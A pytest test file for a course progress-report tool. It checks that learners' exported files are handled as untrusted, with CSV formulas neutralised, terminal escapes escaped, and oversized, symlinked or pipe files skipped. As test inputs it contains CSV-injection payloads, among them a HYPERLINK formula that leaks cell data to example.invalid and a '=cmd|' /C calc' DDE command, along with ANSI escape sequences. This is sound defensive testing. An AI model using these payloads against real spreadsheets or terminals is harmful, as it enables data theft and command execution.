"""The progress report treats learners' files as untrusted: formulas neutralised in the CSV,
control characters escaped in the terminal, hostile files skipped with a reason, never a crash.
Hand-made cases first, then property-based tests (Hypothesis) of the reader."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine.core import export, progress
from engine.report import report

ROOT = Path(__file__).resolve().parents[1]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# A formula character at the start of a cell or after anything a spreadsheet may split cells on
# (comma, semicolon, bar, tab, space, line break) or a double quote, spaces between included.
AFTER_SEPARATOR = re.compile(r"""(?:^|[,;|\t\r\n "])\s*[=+\-@]""")
UNSAFE = {"Cc", "Cf", "Cs", "Zl", "Zp"}
PROPERTY = settings(max_examples=40, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(autouse=True)
def progress_file(tmp_path, monkeypatch):
    monkeypatch.setenv("COURSE_PROGRESS_FILE", str(tmp_path / "progress.json"))
    progress.notices()


@pytest.fixture
def folder(tmp_path):
    path = tmp_path / "collected"
    path.mkdir()
    return path


def sealed(name, exercises=None, learner_id="0123456789ab", now="2026-03-01T10:00:00Z"):
    """An export as the course writes it, for a learner of the given (untrusted) name."""
    record = {"format": progress.record_format(), "version": progress.VERSION, "updated": "2026-03-01T11:00:00",
              "exercises": exercises or {"row-mean": {"attempts": 1, "passed": True}},
              "questions": {}, "learner": {"name": name, "id": learner_id}}
    data = export.seal(record, now=now)
    data["learner"]["name"] = name  # exactly as typed: seal() tidies spaces, a hand-made file need not
    data["export"]["checksum"] = export.checksum(data)
    return json.dumps(data)


def cells(csv_text):
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]


def unsafe_characters(text):
    return [ch for ch in text if unicodedata.category(ch) in UNSAFE and ch != "\n"]


def formula_starts(cell):
    """Where a formula could start in a cell, were it split at any separator."""
    return AFTER_SEPARATOR.findall(cell) + ([cell[0]] if cell.startswith(FORMULA_STARTS) else [])


def assert_quoted(text):
    """Every field of every line is quoted (the CSV holds no line break inside a field)."""
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line
        assert re.fullmatch(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*', line), line


def assert_safe(rep):
    """Every CSV field quoted; no CSV cell starts a formula, even after a separator, or holds a
    control character, in any of the three CSVs; in Excel's, a cell is that or a text constant
    of such text; no summary line holds a control character either."""
    for text in (report.csv_text(rep), report.gradebook_text(rep), report.files_text(rep)):
        assert_quoted(text)
        for cell in cells(text):
            assert formula_starts(cell) == [], cell
            assert unsafe_characters(cell) == [], cell
    for text in (report.csv_text(rep, excel=True), report.gradebook_text(rep, excel=True)):
        assert text.startswith("\ufeff")
        for cell in cells(text.removeprefix("\ufeff")):
            constant = re.fullmatch(r'="((?:[^"]|"")*)"', cell)   # Excel's text constant: one string
            inner = constant.group(1).replace('""', '"') if constant else cell
            assert formula_starts(inner) == [], cell
    assert unsafe_characters(report.summary_text(rep)) == []


# ---------------------------------------------------------------- the hand-made files

def test_a_formula_name_is_shown_as_text_in_every_cell(folder):
    name = '=HYPERLINK("http://example.invalid/?leak","Alice")'
    (folder / "alice.json").write_text(sealed(name))
    (folder / "+plus.json").write_text(sealed("@SUM(A1:A9)", learner_id="bbbbbbbbbbbb"))
    rep = report.build(folder)
    assert len(rep.exports) == 2 and rep.skipped == []
    rows = list(csv.DictReader(io.StringIO(report.csv_text(rep))))
    assert {r["learner"] for r in rows} == {"'" + name, "'@SUM(A1:A9)"}
    assert {r["file"] for r in rows} == {"alice.json", "'+plus.json"}
    assert_safe(rep)
    assert name in report.summary_text(rep)  # the terminal shows it as typed: it runs nothing there


def test_escape_codes_in_a_name_never_reach_the_terminal(folder):
    name = "Bob\x1b[31m red\x1b]0;new title\x07\u202eevil\x9b2J"
    (folder / "bob.json").write_text(sealed(name))
    (folder / "\x1b[2Jname.json").write_text(sealed("Carol", learner_id="cccccccccccc"))
    rep = report.build(folder)
    assert len(rep.exports) == 2
    summary = report.summary_text(rep)
    assert "\x1b" not in summary and "\u202e" not in summary and "\x9b" not in summary
    assert "Bob\\x1b[31m red" in summary and "\\u202eevil" in summary
    assert "\\x1b[2Jname.json" in report.csv_text(rep)
    assert_safe(rep)


def test_nested_brackets_are_skipped_and_the_report_goes_on(folder):
    (folder / "nested.json").write_text("[" * 400_000)
    (folder / "nested-object.json").write_text('{"a":' * 100_000)
    (folder / "ada.json").write_text(sealed("Ada"))
    rep = report.build(folder)
    reasons = dict(rep.skipped)
    assert [e.learner for e in rep.exports] == ["Ada"]
    assert reasons["nested.json"] == "malformed: nested too deeply to be a progress export"
    assert "nested too deeply" in reasons["nested-object.json"]


def test_a_50_mb_file_is_skipped_by_its_size_without_being_read(folder):
    big = folder / "huge.json"
    with open(big, "wb") as file:  # a sparse file: 50 MB on paper, nothing written to disk
        file.write(b'{"format": "transformer-course-progress", "exercises": {')
        file.truncate(50_000_000)
    (folder / "ada.json").write_text(sealed("Ada"))
    opened = []
    real_open = os.open

    def watching_open(path, *args, **kwargs):
        opened.append(Path(path).name)
        return real_open(path, *args, **kwargs)

    started = time.perf_counter()
    os.open = watching_open  # every file the report opens, seen from here
    try:
        rep = report.build(folder)
    finally:
        os.open = real_open
    assert time.perf_counter() - started < 5
    assert "huge.json" not in opened and "ada.json" in opened
    reason = dict(rep.skipped)["huge.json"]
    assert reason.startswith("too large to be a progress export (50.0 MB")
    assert "1.0 MB" in reason
    assert [e.learner for e in rep.exports] == ["Ada"]


def test_a_pipe_in_the_folder_is_skipped_not_waited_on(folder, tmp_path):
    os.mkfifo(folder / "pipe.json")
    (folder / "ada.json").write_text(sealed("Ada"))
    done = subprocess.run([sys.executable, "-m", "engine", "report", str(folder), "--csv",
                           str(tmp_path / "out.csv")], cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(ROOT)},
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "pipe.json: not a regular file" in done.stdout
    assert "1 learner, 1 file not used" in done.stdout


@pytest.mark.parametrize("content, reason", [
    (b"", "empty: the file holds nothing"),
    (b"  \n\t ", "empty: the file holds nothing"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"attempts": NaN}}, "questions": {}}', "not valid JSON"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"attempts": 1e400}}, "questions": {}}', "wrong kind"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"passed": "yes"}}, "questions": {}}', "wrong kind"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {},'
     b' "questions": {}, "test_out": []}', "wrong kind in its 'test_out' section"),
    (b'{"format": "transformer-course-progress", "version": 1, "exercises": {"row-mean":'
     b' {"attempts": -3}}, "questions": {}}', "wrong kind"),
])
def test_hostile_values_are_skipped_with_the_reason(folder, content, reason):
    (folder / "odd.json").write_bytes(content)
    (folder / "ada.json").write_text(sealed("Ada"))
    rep = report.build(folder)
    assert [e.learner for e in rep.exports] == ["Ada"]
    assert reason in dict(rep.skipped)["odd.json"]


def test_an_overlong_id_or_date_is_cut_and_escaped(folder):
    data = json.loads(sealed("", learner_id="x" * 10_000 + "\x1b"))
    data["export"]["exported_at"] = "=cmd|' /C calc'!A0" + "\x1b" * 50
    data["export"]["checksum"] = export.checksum(data)
    (folder / "anon.json").write_text(json.dumps(data))
    rep = report.build(folder)
    (item,) = rep.exports
    assert item.learner == "anonymous-" + "x" * 64
    assert "\x1b" not in item.exported_at and len(item.exported_at) < 100
    assert_safe(rep)


def test_the_report_never_replaces_a_csv_without_force(folder, tmp_path):
    (folder / "ada.json").write_text(sealed("Ada"))
    out = tmp_path / "class.csv"
    out.write_text("my own notes\n")
    run = [sys.executable, "-m", "engine", "report", str(folder), "--csv", str(out)]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(run, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert "already exists" in done.stderr and "--force" in done.stderr
    assert out.read_text() == "my own notes\n"
    done = subprocess.run(run + ["--force"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert out.read_text().startswith(",".join(f'"{c}"' for c in report.CSV_COLUMNS))


def test_a_terminal_that_cannot_show_a_name_gets_an_escape_not_a_crash(folder, tmp_path):
    (folder / "zoe.json").write_text(sealed("Zoë 日本"))
    done = subprocess.run([sys.executable, "-m", "engine", "report", str(folder), "--csv", "-"],
                          cwd=tmp_path, capture_output=True,
                          env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONIOENCODING": "ascii"}, timeout=60)
    assert done.returncode == 0, done.stderr
    assert b"Zo\\xeb \\u65e5\\u672c" in done.stderr


# ---------------------------------------------------------------- properties (Hypothesis)

def run_report(files):
    """Write files ({name: bytes}) into a fresh folder; build the report, its CSV and summary."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        for name, data in files.items():
            (folder / name).write_bytes(data)
        rep = report.build(folder)
        report.csv_text(rep)
        report.summary_text(rep)
        return rep


def every_file_is_kept_or_skipped(rep, names):
    kept = [e.path.name for e in rep.exports]
    skipped = [name for name, _reason in rep.skipped]
    assert sorted(kept + skipped) == sorted(names)
    assert all(reason for _name, reason in rep.skipped)


@PROPERTY
@given(st.lists(st.binary(max_size=300), min_size=1, max_size=4))
def test_arbitrary_bytes_never_stop_the_report(blobs):
    files = {f"file{i}.json": blob for i, blob in enumerate(blobs)}
    rep = run_report(files)
    every_file_is_kept_or_skipped(rep, files)
    assert_safe(rep)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-10**6, max_value=10**6)
    | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=20)
ENTRY_KEYS = st.sampled_from(["attempts", "hints", "passed", "passed_after_solution", "solution_revealed",
                              "checks", "misses", "tries", "answer", "correct", "revealed", "passed_at"])
RECORDS = st.fixed_dictionaries({
    "format": st.just(progress.record_format()), "version": st.sampled_from([1, 2, "1", None]),
    "exercises": st.dictionaries(st.sampled_from(["row-mean", "layer-norm", "x"]),
                                 st.dictionaries(ENTRY_KEYS, JSON, max_size=4) | JSON, max_size=3),
    "questions": st.dictionaries(st.sampled_from(["start-predict-softmax", "q"]),
                                 st.dictionaries(ENTRY_KEYS, JSON, max_size=4), max_size=2) | JSON,
    "test_out": st.dictionaries(st.sampled_from(["01_positional_encoding", "zz"]),
                                st.dictionaries(ENTRY_KEYS, JSON, max_size=3) | JSON, max_size=2) | JSON,
    "learner": st.fixed_dictionaries({"name": JSON, "id": JSON}) | JSON,
    "export": st.fixed_dictionaries({"course": JSON, "exported_at": JSON, "checksum": JSON}) | JSON,
})


@PROPERTY
@given(st.lists(JSON | RECORDS, min_size=1, max_size=3))
def test_arbitrary_json_values_never_stop_the_report(values):
    files = {f"v{i}.json": json.dumps(value).encode() for i, value in enumerate(values)}
    rep = run_report(files)
    every_file_is_kept_or_skipped(rep, files)
    assert_safe(rep)


HOSTILE = ["=", "+", "-", "@", "\t", "\r", "\n", "\x1b", "\x9b", "\u202e", "\u2028", "\x00", "\ud800"]
NAMES = st.builds(
    lambda head, body: head + body,
    st.sampled_from(["", " ", "=", "+", "-", "@", "\t", "\r", " =", "\t@", "\x1b[31m", "\u202e"]),
    st.text(st.sampled_from(HOSTILE) | st.characters(codec="utf-8"), max_size=30))


@PROPERTY
@given(st.lists(NAMES, min_size=1, max_size=4))
def test_valid_exports_with_any_name_are_all_kept_and_safe(names):
    files = {f"e{i}.json": sealed(name, learner_id=f"{i:012d}").encode() for i, name in enumerate(names)}
    rep = run_report(files)
    every_file_is_kept_or_skipped(rep, files)
    assert len(rep.exports) == len(names)  # one browser each: nobody replaces anybody
    assert rep.skipped == []
    assert_safe(rep)


# ---------------------------------------------------------------- links, pipes, devices

def cli(folder, tmp_path, *args):
    return subprocess.run([sys.executable, "-m", "engine", "report", str(folder), "--csv",
                           str(tmp_path / "out.csv"), *args], cwd=tmp_path,
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, capture_output=True, text=True, timeout=60)


def test_no_symbolic_link_is_followed_and_each_says_where_it_points(folder, tmp_path):
    (folder / "ada.json").write_text(sealed("Ada"))
    elsewhere = tmp_path / "elsewhere.json"      # a valid export, outside the folder
    elsewhere.write_text(sealed("Mallory", learner_id="eeeeeeeeeeee"))
    os.mkfifo(tmp_path / "pipe")
    (folder / "loop.json").symlink_to("loop.json")
    (folder / "dangling.json").symlink_to("nowhere.json")
    (folder / "outside.json").symlink_to(elsewhere)
    (folder / "inside.json").symlink_to("ada.json")
    (folder / "to-pipe.json").symlink_to(tmp_path / "pipe")
    (folder / "to-device.json").symlink_to("/dev/zero")
    (folder / "to-folder").symlink_to(tmp_path)
    done = cli(folder, tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    files = {r["file"]: r for r in csv.DictReader(io.StringIO((tmp_path / "out-files.csv").read_text()))}
    expected = {"loop.json": "points to itself, in a loop", "dangling.json": "points to nothing",
                "outside.json": "to a file outside the folder", "inside.json": "to a file in the folder",
                "to-pipe.json": "to a pipe outside the folder", "to-device.json": "to a device outside the folder",
                "to-folder": "to a folder outside the folder"}
    for name, where in expected.items():
        assert files[name]["outcome"] == "skipped"
        assert files[name]["reason"].startswith("a symbolic link (the report follows none)"), files[name]
        assert where in files[name]["reason"], files[name]
    assert files["ada.json"]["outcome"] == "used"
    assert "Mallory" not in (tmp_path / "out.csv").read_text()
    assert f"1 learner, {len(expected)} files not used" in done.stdout


def test_a_file_swapped_for_a_link_or_a_pipe_after_the_listing_is_not_followed_or_waited_on(tmp_path):
    from engine.report import untrusted

    os.mkfifo(tmp_path / "pipe")                         # nobody ever writes to it
    (tmp_path / "link").symlink_to(tmp_path / "pipe")
    with pytest.raises(untrusted.Refused, match="not a regular file \\(a pipe\\)"):
        untrusted.read_capped(str(tmp_path / "pipe"), 1000)
    with pytest.raises(untrusted.Refused, match="symbolic link"):
        untrusted.read_capped(str(tmp_path / "link"), 1000)
    (tmp_path / "big").write_bytes(b"x" * 2000)
    with pytest.raises(untrusted.Refused, match="too large"):
        untrusted.read_capped(str(tmp_path / "big"), 1000)
    (tmp_path / "small").write_bytes(b"x" * 1000)
    assert untrusted.read_capped(str(tmp_path / "small"), 1000) == b"x" * 1000


def test_an_error_while_looking_at_one_file_skips_that_file_only(folder, monkeypatch):
    from engine.report import untrusted

    (folder / "ada.json").write_text(sealed("Ada"))
    (folder / "odd-link.json").symlink_to("ada.json")

    def broken(path, folder):
        raise RuntimeError("Symlink loop")

    monkeypatch.setattr(untrusted, "link_refusal", broken)
    rep = report.build(folder)
    assert [e.learner for e in rep.exports] == ["Ada"]
    assert dict(rep.skipped)["odd-link.json"] == "could not be read (RuntimeError)"


# ---------------------------------------------------------------- formulas after a separator

PAYLOAD = ';=HYPERLINK(CHAR(104)&"ttp://example.invalid/?"&A3,"see")'


def test_a_formula_after_a_separator_is_neutralised_in_every_column(folder):
    data = json.loads(sealed("Ada" + PAYLOAD, learner_id="aa;=1+1"))
    data["export"]["exported_at"] = "2026" + PAYLOAD
    data["export"]["checksum"] = export.checksum(data)
    (folder / ("x" + PAYLOAD.replace("/", "_") + ".json")).write_text(json.dumps(data))
    (folder / ("junk, =1+2.json")).write_text("{")
    rep = report.build(folder)
    assert len(rep.exports) == 1
    rows = list(csv.DictReader(io.StringIO(report.csv_text(rep))))
    for column in ("learner", "learner_id", "exported_at", "file"):
        assert ";'=HYPERLINK(" in rows[0][column] or ";'=1+1" in rows[0][column], column
    assert any("junk, '=1+2.json" in line for line in report.files_text(rep).splitlines())
    assert_safe(rep)


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("Ada;=1+1", "Ada;'=1+1"), ("Ada; =1+1", "Ada; '=1+1"), ("a,-2", "a,'-2"),
    ("a|@SUM(A1)", "a|'@SUM(A1)"), ('a"+1', "a\"'+1"), ("\t=1", "'\t'=1"), ("Smith-Jones", "Smith-Jones"),
    ("2026-03-01T10:00:00Z", "2026-03-01T10:00:00Z"), (3, 3),
])
def test_neutralise_follows_owasps_rule(text, safe):
    from engine.report import spreadsheet

    assert spreadsheet.neutralise(text) == safe
